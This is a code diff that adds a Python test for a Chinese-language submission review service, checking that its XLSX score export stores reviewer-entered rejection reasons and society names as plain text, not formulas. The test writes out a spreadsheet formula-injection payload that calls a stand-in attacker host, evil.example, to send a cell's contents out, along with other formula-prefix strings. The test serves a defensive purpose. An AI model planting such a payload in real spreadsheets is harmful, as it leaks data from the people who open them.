@@ -210,3 +210,21 @@ def test_review_page_says_when_no_file_was_recognised_as_the_summary(web):
     assert submission["status"] == "done"
     page = text_of(service.client.get(f"/submissions/{submission['id']}").text)
     assert "注意：材料中没有识别出工作总结，已把最长的文本“开展情况.docx”当作工作总结读取" in page
+
+
+def test_xlsx_export_writes_hostile_reasons_and_names_as_text_not_formulas(web):
+    service, reviewer, _ = web
+    submission = service.submit(reviewer, sample("02_zuowu.docx"), society="=1+2")
+    reason = '=HYPERLINK("http://evil.example/?d="&C4,"查看依据")'
+    proposals = service.client.get(f"/api/submissions/{submission['id']}/proposals", headers=reviewer).json()
+    for proposal, text in zip(proposals, [reason, "@SUM(A1:A9)", "+1+2"]):
+        response = service.client.post(f"/api/proposals/{proposal['id']}/reject",
+                                       json={"version": proposal["version"], "reason": text}, headers=reviewer)
+        assert response.status_code == 200, response.text
+    response = service.client.get(f"/api/submissions/{submission['id']}/score.xlsx", headers=reviewer)
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    values = {c.value for c in cells}
+    assert {reason, "@SUM(A1:A9)", "+1+2"} <= values
+    assert any(isinstance(v, str) and v.startswith("学会：=1+2") for v in values)
